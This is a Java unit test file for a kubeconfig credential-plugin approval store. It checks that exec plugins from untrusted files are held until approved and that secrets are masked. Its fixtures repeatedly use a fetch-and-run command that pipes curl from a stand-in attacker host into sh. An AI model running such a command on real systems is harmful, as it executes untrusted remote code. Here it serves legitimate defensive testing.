package dev.backstack.panel.installer.connect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.io.File;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** T28: a credential plugin from a file the user does not already trust runs only once approved. */
class PluginApprovalsTest {

    @TempDir
    Path tmp;

    private static final ExecSpec CURL_PIPE_SH = new ExecSpec(
            Fixtures.V1,
            "sh",
            List.of("-c", "curl -s https://evil.example.test/x | sh"),
            Map.of("EVIL_TOKEN", "s3cr3t-env-value"),
            "",
            false,
            Path.of("/imports"));

    private Path configDir() {
        return tmp.resolve("config").resolve("backstack-panel");
    }

    private Path kubeconfig(String name) {
        return tmp.resolve(name);
    }

    @Test
    @DisplayName("an approval is kept in the config folder and holds for a new instance")
    void approvalIsPersistedAcrossInstances() {
        PluginApprovals first = new PluginApprovals(configDir());
        assertThat(first.approved(kubeconfig("imported.yaml"), CURL_PIPE_SH)).isFalse();

        first.approve(kubeconfig("imported.yaml"), CURL_PIPE_SH);

        PluginApprovals second = new PluginApprovals(configDir());
        assertThat(second.approved(kubeconfig("imported.yaml"), CURL_PIPE_SH)).isTrue();
        assertThat(second.approved(kubeconfig("other.yaml"), CURL_PIPE_SH))
                .as("an approval is for one kubeconfig file")
                .isFalse();
        assertThat(second.file()).isEqualTo(configDir().resolve(PluginApprovals.FILE_NAME));
    }

    @Test
    @DisplayName("changed args, env value, command or API version need a new approval")
    void anyChangeOfTheSpecNeedsANewApproval() {
        PluginApprovals approvals = new PluginApprovals(configDir());
        approvals.approve(kubeconfig("k.yaml"), CURL_PIPE_SH);

        ExecSpec otherArgs = new ExecSpec(
                Fixtures.V1,
                "sh",
                List.of("-c", "curl -s https://evil.example.test/y | sh"),
                CURL_PIPE_SH.env(),
                "",
                false,
                Path.of("/imports"));
        ExecSpec otherEnv = new ExecSpec(
                Fixtures.V1, "sh", CURL_PIPE_SH.args(), Map.of("EVIL_TOKEN", "other"), "", false, Path.of("/imports"));
        ExecSpec otherCommand = new ExecSpec(
                Fixtures.V1, "bash", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "", false, Path.of("/imports"));
        ExecSpec otherVersion = new ExecSpec(
                Fixtures.V1BETA1, "sh", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "", false, Path.of("/imports"));
        ExecSpec sameButHint = new ExecSpec(
                Fixtures.V1, "sh", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "install it", false, Path.of("/elsewhere"));

        PluginApprovals reloaded = new PluginApprovals(configDir());
        assertThat(reloaded.approved(kubeconfig("k.yaml"), otherArgs)).isFalse();
        assertThat(reloaded.approved(kubeconfig("k.yaml"), otherEnv)).isFalse();
        assertThat(reloaded.approved(kubeconfig("k.yaml"), otherCommand)).isFalse();
        assertThat(reloaded.approved(kubeconfig("k.yaml"), otherVersion)).isFalse();
        assertThat(reloaded.approved(kubeconfig("k.yaml"), sameButHint)).isTrue();
    }

    @Test
    @DisplayName("the allowlist file holds hashes and the command name, never args or env values")
    void fileHoldsNoArgsOrEnvValues() throws Exception {
        PluginApprovals approvals = new PluginApprovals(configDir());
        approvals.approve(kubeconfig("k.yaml"), CURL_PIPE_SH);

        String saved = Files.readString(approvals.file());
        assertThat(saved)
                .contains("\"command\" : \"sh\"", kubeconfig("k.yaml").toString())
                .containsPattern("\"sha256\" : \"[0-9a-f]{64}\"")
                .doesNotContain("curl", "evil", "s3cr3t-env-value", "EVIL_TOKEN");
        if (FileSystems.getDefault().supportedFileAttributeViews().contains("posix")) {
            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(approvals.file())))
                    .isEqualTo("rw-------");
        }
        try (var files = Files.list(configDir())) {
            assertThat(files).as("no temporary file left behind").containsExactly(approvals.file());
        }
    }

    @Test
    @DisplayName("the command is kept by file name only")
    void commandIsKeptByFileName() throws Exception {
        PluginApprovals approvals = new PluginApprovals(configDir());
        approvals.approve(
                kubeconfig("k.yaml"),
                new ExecSpec(
                        Fixtures.V1,
                        "/home/someone/bin/aws-iam-authenticator",
                        List.of("token"),
                        Map.of(),
                        "",
                        false,
                        tmp));

        assertThat(Files.readString(approvals.file()))
                .contains("\"command\" : \"aws-iam-authenticator\"")
                .doesNotContain("/home/someone");
    }

    @Test
    @DisplayName("a broken allowlist approves nothing and is replaced by the next approval")
    void brokenFileApprovesNothing() throws Exception {
        Files.createDirectories(configDir());
        Files.writeString(configDir().resolve(PluginApprovals.FILE_NAME), "{ not json");

        PluginApprovals approvals = new PluginApprovals(configDir());
        assertThat(approvals.approved(kubeconfig("k.yaml"), CURL_PIPE_SH)).isFalse();
        approvals.approve(kubeconfig("k.yaml"), CURL_PIPE_SH);

        assertThat(new PluginApprovals(configDir()).approved(kubeconfig("k.yaml"), CURL_PIPE_SH))
                .isTrue();
    }

    @Test
    @DisplayName("needingApproval: plugins of untrusted files until approved; trusted files and plain tokens never")
    void needingApprovalListsUntrustedPluginsOnly() throws Exception {
        Path own = tmp.resolve("own-config");
        Files.writeString(own, """
                clusters:
                - name: c
                  cluster: {server: "https://own.example.test"}
                users:
                - name: aws
                  user:
                    exec: {apiVersion: client.authentication.k8s.io/v1, command: aws, args: [eks, get-token]}
                - name: plain
                  user: {token: abc}
                contexts:
                - name: own-eks
                  context: {cluster: c, user: aws}
                - name: own-token
                  context: {cluster: c, user: plain}
                """);
        Path imported = tmp.resolve("imported.yaml");
        Files.writeString(imported, """
                clusters:
                - name: x
                  cluster: {server: "https://imported.example.test"}
                users:
                - name: evil
                  user:
                    exec:
                      apiVersion: client.authentication.k8s.io/v1
                      command: sh
                      args: [-c, "curl -s https://evil.example.test/x | sh"]
                contexts:
                - name: imported
                  context: {cluster: x, user: evil}
                - name: borrows-own-user
                  context: {cluster: x, user: aws}
                """);
        KubeconfigSet set = new KubeconfigDiscovery()
                .discover(Map.of("KUBECONFIG", own + File.pathSeparator + imported), tmp.resolve("home"));
        assertThat(set.contexts()).hasSize(4);
        PluginApprovals approvals = new PluginApprovals(configDir());

        List<ContextEntry> needing = approvals.needingApproval(set, Set.of(own));
        assertThat(needing)
                .extracting(ContextEntry::name)
                .as("a context of the imported file using the user of the trusted file runs the trusted plugin")
                .containsExactly("imported");
        assertThat(PluginApprovals.pluginFile(set.find("borrows-own-user").orElseThrow()))
                .isEqualTo(own);
        assertThat(approvals.needingApproval(set, Set.of()))
                .extracting(ContextEntry::name)
                .containsExactly("own-eks", "imported", "borrows-own-user");

        ContextEntry evil = needing.get(0);
        assertThat(approvals.mayRun(evil, Set.of(own))).isFalse();
        assertThat(approvals.mayRun(set.find("own-eks").orElseThrow(), Set.of(own)))
                .isTrue();
        assertThat(approvals.mayRun(set.find("own-token").orElseThrow(), Set.of()))
                .as("no plugin")
                .isTrue();
        approvals.approve(PluginApprovals.pluginFile(evil), evil.exec().orElseThrow());

        assertThat(approvals.mayRun(evil, Set.of(own))).isTrue();
        assertThat(new PluginApprovals(configDir()).needingApproval(set, Set.of(own)))
                .isEmpty();
    }

    @Test
    @DisplayName("describe shows command, args and env names; env values and secret-looking args are masked")
    void describeShowsCommandArgsAndEnvNames() {
        ExecSpec spec = new ExecSpec(
                Fixtures.V1,
                "sh",
                List.of("-c", "curl -s https://evil.example.test/x | sh", "--token", "abc123"),
                Map.of("EVIL_TOKEN", "s3cr3t-env-value", "AWS_PROFILE", "prod"),
                "",
                false,
                tmp);

        String text = PluginApprovals.describe(spec);

        assertThat(text)
                .contains(
                        "command: sh",
                        "-c \"curl -s https://evil.example.test/x | sh\"",
                        "AWS_PROFILE=" + Redactor.MASK,
                        "EVIL_TOKEN=" + Redactor.MASK,
                        "--token " + Redactor.MASK)
                .doesNotContain("s3cr3t-env-value", "prod", "abc123");
        assertThat(text.indexOf("AWS_PROFILE")).isLessThan(text.indexOf("EVIL_TOKEN"));
        assertThat(PluginApprovals.describe(new ExecSpec(Fixtures.V1, "aws", List.of(), Map.of(), "", false, tmp)))
                .isEqualTo("command: aws\nargs: (none)\nenv: (none)");
    }

    @Test
    @DisplayName("an approval survives a relative spelling of the same kubeconfig path")
    void pathsAreNormalized() {
        assumeThat(tmp.isAbsolute()).isTrue();
        PluginApprovals approvals = new PluginApprovals(configDir());
        approvals.approve(tmp.resolve("a").resolve("..").resolve("k.yaml"), CURL_PIPE_SH);

        assertThat(approvals.approved(tmp.resolve("k.yaml"), CURL_PIPE_SH)).isTrue();
    }
}
